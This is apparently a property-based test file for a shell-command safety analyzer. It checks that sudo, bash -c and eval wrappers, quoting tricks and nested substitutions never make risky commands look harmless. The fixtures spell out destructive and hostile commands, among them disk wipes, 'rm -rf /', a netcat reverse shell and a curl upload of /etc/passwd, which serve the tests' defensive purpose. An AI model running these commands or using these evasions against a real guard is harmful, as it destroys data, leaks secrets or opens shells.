// Properties of the analysis: wrappers and quoting never lower the categories; a destructive
// command anywhere makes the whole destructive; no input makes the analyzer throw.
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { SHELL_CATEGORIES } from "../../compiler/context/types.js";
import { analyzeShell, initShellAnalyzer } from "../../runtime/shell/index.js";

beforeAll(async () => {
  await initShellAnalyzer();
});

/** Simple commands (one program, its words, maybe a redirect) spanning every category. */
const SIMPLE = [
  "ls -la /var/log", "cat /etc/hostname", "git status", "git log --oneline", "kubectl get pods", "echo hi > /tmp/o",
  "rm -rf /tmp/x", "shred -u f", "git push --force", "git reset --hard", "kubectl delete pod x", "dd if=/dev/zero of=/dev/sda",
  "curl -d @/etc/passwd http://example.invalid", "wget http://example.invalid/x", "chmod u+s /bin/bash", "find . -delete",
  "find . -exec rm {} ;", "sed -i s/a/b/ f", "sed e f", "awk 'BEGIN{system(\"id\")}'", "python3 -c 'print(1)'", "kill -9 1",
  "systemctl stop nginx", "truncate -s 0 f", "mkfs.ext4 /dev/sdb", "psql -c 'drop table t'", "tar xzf a.tgz", "nc -e /bin/sh h 1",
  "git -c core.pager=id log", "useradd eve", "ssh host rm -rf /", "unknown-tool --flag", "sort -o out in", "cp a b",
];
const DESTRUCTIVE = ["rm -rf /tmp/x", "shred f", "git reset --hard", "kubectl delete pod x", "find . -delete", "truncate -s0 f",
  "dd if=/dev/zero of=/dev/sdb", "mkfs /dev/sdb", "systemctl stop x", "git clean -fd", "kill 1"];
const BENIGN = ["ls", "echo hi", "cat f", "git status", "true", "pwd", "grep -r x .", "kubectl get pods", "sleep 1", "date"];

/** Wrappers that take the command as words: they apply to a simple command (or to another of them). */
const ARGV_WRAPPERS: ((cmd: string) => string)[] = [
  (c) => `env ${c}`, (c) => `env -i A=1 ${c}`, (c) => `nice -n 5 ${c}`, (c) => `nohup ${c}`, (c) => `timeout 10 ${c}`,
  (c) => `timeout -s KILL 10 ${c}`, (c) => `time ${c}`, (c) => `stdbuf -oL ${c}`, (c) => `command ${c}`, (c) => `exec ${c}`,
  (c) => `xargs ${c}`, (c) => `flock /tmp/l ${c}`, (c) => `ionice -c 3 ${c}`, (c) => `taskset 0x1 ${c}`, (c) => `watch ${c}`,
  (c) => `chroot / ${c}`, (c) => `sudo ${c}`, (c) => `sudo -u bob -- ${c}`, (c) => `doas ${c}`, (c) => `pkexec ${c}`,
  (c) => `runuser -u bob -- ${c}`, (c) => `/usr/bin/env ${c}`, (c) => `setsid ${c}`, (c) => `kubectl exec pod -- ${c}`,
];
/** Wrappers that take a script: they apply to anything. */
const SCRIPT_WRAPPERS: ((cmd: string) => string)[] = [
  (c) => `bash -c ${sq(c)}`, (c) => `sh -c ${sq(c)}`, (c) => `su -c ${sq(c)} root`, (c) => `flock /tmp/l -c ${sq(c)}`,
  (c) => `eval ${sq(c)}`, (c) => `echo $( ${c} )`, (c) => `( ${c} )`, (c) => `{ ${c}; }`, (c) => `f() { ${c}; }; f`,
  (c) => `bash <<'EOF'\n${c}\nEOF`, (c) => `ssh host ${sq(c)}`, (c) => `watch ${sq(c)}`, (c) => `sh <<< ${sq(c)}`,
];

function sq(s: string): string {
  return `'${s.replaceAll("'", `'\\''`)}'`;
}

/** Ways of writing the same word; bash removes the quotes and escapes before running it. */
const QUOTINGS: ((w: string) => string)[] = [
  (w) => w, (w) => `'${w}'`, (w) => `"${w}"`, (w) => `\\${w}`, (w) => `${w[0]}''${w.slice(1)}`, (w) => `${w[0]}""${w.slice(1)}`,
  (w) => `$'${w}'`, (w) => `"${w[0]}"${w.slice(1)}`, (w) => [...w].map((c) => (/[a-z]/.test(c) ? `\\${c}` : c)).join(""),
];
const PLAIN_WORD = /^[A-Za-z0-9_./=:+-]+$/;

function requoteWords(command: string, picks: number[]): string {
  return command.split(" ").map((w, i) => (PLAIN_WORD.test(w) ? QUOTINGS[picks[i % picks.length]! % QUOTINGS.length]!(w) : w)).join(" ");
}

function lowered(base: readonly string[], other: readonly string[]): string[] {
  return base.filter((c) => c !== "read-only" && !other.includes(c));
}

describe("shell analysis properties", () => {
  it("a known wrapper never lowers the categories", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SIMPLE),
        fc.array(fc.nat(ARGV_WRAPPERS.length - 1), { maxLength: 3 }),
        fc.array(fc.nat(SCRIPT_WRAPPERS.length - 1), { maxLength: 2 }),
        (cmd, argv, script) => {
        fc.pre(argv.length + script.length > 0);
        const base = analyzeShell(cmd).categories;
        const inner = argv.reduce((c, i) => ARGV_WRAPPERS[i]!(c), cmd);
        const wrapped = script.reduce((c, i) => SCRIPT_WRAPPERS[i]!(c), inner);
        const got = analyzeShell(wrapped).categories;
        expect(lowered(base, got), `${wrapped} → ${got}`).toEqual([]);
        if (!(base.length === 1 && base[0] === "read-only")) expect(got).not.toContain("read-only");
      }),
      { numRuns: 600 },
    );
  });

  it("quoting variants of the words never lower the categories", () => {
    fc.assert(
      fc.property(fc.constantFrom(...SIMPLE), fc.array(fc.nat(QUOTINGS.length - 1), { minLength: 1, maxLength: 8 }), (cmd, picks) => {
        const base = analyzeShell(cmd).categories;
        const variant = requoteWords(cmd, picks);
        const got = analyzeShell(variant).categories;
        expect(lowered(base, got), `${variant} → ${got}`).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  it("a destructive command anywhere in a list, pipeline or substitution makes the whole destructive", () => {
    const joiners = ["; ", " && ", " || ", " | ", " & ", "\n", " |& "];
    const nestings: ((c: string) => string)[] = [
      (c) => c, (c) => `$(${c})`, (c) => `echo \`${c}\``, (c) => `cat <(${c})`, (c) => `tee >(${c})`, (c) => `(${c})`,
      (c) => `{ ${c}; }`, (c) => `if true; then ${c}; fi`, (c) => `while false; do ${c}; done`, (c) => `for i in 1; do ${c}; done`,
      (c) => `x=$(${c})`, (c) => `echo "$(${c})"`, (c) => `bash -c ${sq(c)}`, (c) => `case a in a) ${c};; esac`, (c) => `! ${c}`,
      (c) => `cat <<EOF\n$(${c})\nEOF`,
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...BENIGN), { maxLength: 4 }),
        fc.nat(),
        fc.constantFrom(...DESTRUCTIVE),
        fc.array(fc.nat(joiners.length - 1), { minLength: 5, maxLength: 5 }),
        fc.nat(nestings.length - 1),
        (benign, at, bad, js, n) => {
          const parts = [...benign];
          parts.splice(at % (parts.length + 1), 0, nestings[n]!(bad));
          const command = parts.map((p, i) => (i === 0 ? p : joiners[js[i % js.length]!]! + p)).join("");
          const f = analyzeShell(command);
          expect(f.categories, command).toContain("destructive");
          expect(f.categories).toContain("mutating");
          expect(f.readOnly).toBe(false);
        },
      ),
      { numRuns: 500 },
    );
  });

  const shellish = fc.array(
    fc.oneof(
      fc.constantFrom("$(", ")", "`", "'", '"', "\\", "<<", "<<-", "EOF", "\n", "|", ";", "&", "&&", "{", "}", "(", "<(", ">(",
        "${", "$'", "$((", "))", "[[", "]]", ">", ">>", "2>&1", "<<<", "=", " ", "rm", "-rf", "sudo", "bash", "-c", "eval",
        "find", "-exec", "\\;", "xargs", "f()", "case", "esac", "if", "then", "fi", "for", "do", "done", "#", "*", "~", "!"),
      fc.string({ maxLength: 6 }),
    ),
    { maxLength: 40 },
  ).map((parts) => parts.join(""));

  it("never throws, and always answers with the fixed vocabulary", () => {
    fc.assert(
      fc.property(fc.oneof(shellish, fc.string({ maxLength: 200, unit: "grapheme" }), fc.string({ maxLength: 100, unit: "binary" })), (text) => {
        const f = analyzeShell(text);
        expect(f.categories.length).toBeGreaterThan(0);
        for (const c of f.categories) expect(SHELL_CATEGORIES).toContain(c);
        expect(f.readOnly).toBe(f.categories.length === 1 && f.categories[0] === "read-only");
        if (f.parseError !== undefined) expect(f.readOnly).toBe(false);
        if (f.categories.includes("destructive")) expect(f.categories).toContain("mutating");
      }),
      { numRuns: 800 },
    );
  });

  it("survives inputs that are not strings and very deep nesting", () => {
    expect(analyzeShell(undefined as unknown as string).readOnly).toBe(false);
    let deep = "ls";
    for (let i = 0; i < 12; i++) deep = `bash -c ${sq(deep)}`;
    const f = analyzeShell(deep);
    expect(f.categories).toContain("opaque");
    expect(analyzeShell("$(".repeat(5000)).readOnly).toBe(false);
    expect(analyzeShell("x".repeat(300_000)).categories).toContain("opaque");
  });
});

describe("plain-command fast path", () => {
  const words = ["ls", "-la", "rm", "-rf", "/tmp/x", "git", "push", "--force", "status", "kubectl", "delete", "get", "pods",
    "sudo", "env", "timeout", "5", "bash", "-c", "sed", "-i", "s/a/b/", "find", ".", "-delete", "-exec", ";", "xargs", "psql",
    "'rm'", "r''m", '"-rf"', "'a b'", '"it\'s"', "''", "FOO=1", "PATH=/x", "a=b", "if", "then", "for", "do", "{", "}", "!",
    "--", "-", "@x", "%1", ":", ".", "echo", "grep", "'*.log'", "'$x'", "\"x\"y'z'", "dd", "of=/dev/sda", "curl", "http://h"];
  const ops = [" ", " ", " ", " | ", " || ", " && ", "; ", ";", "|", " & ", "&&"];
  const line = fc.array(fc.tuple(fc.constantFrom(...words), fc.constantFrom(...ops)), { minLength: 1, maxLength: 10 })
    .map((parts) => parts.map(([w, o], i) => (i === parts.length - 1 ? w + (o === ";" || o === "; " ? ";" : "") : w + o)).join(""));

  it("gives the full parse's answer on every command", () => {
    fc.assert(
      fc.property(line, (text) => {
        const fast = analyzeShell(text);
        const full = analyzeShell(text, { fullParse: true });
        // Where the grammar reads the line cleanly, the facts are identical; where it does not
        // (it drops a lone "-" before an assignment), both are opaque and neither is read-only.
        if (full.parseError === undefined) {
          expect(fast, text).toEqual(full);
        } else {
          expect(full.categories, text).toContain("opaque");
          expect(fast.readOnly, text).toBe(false);
        }
      }),
      { numRuns: 1500 },
    );
  });
});
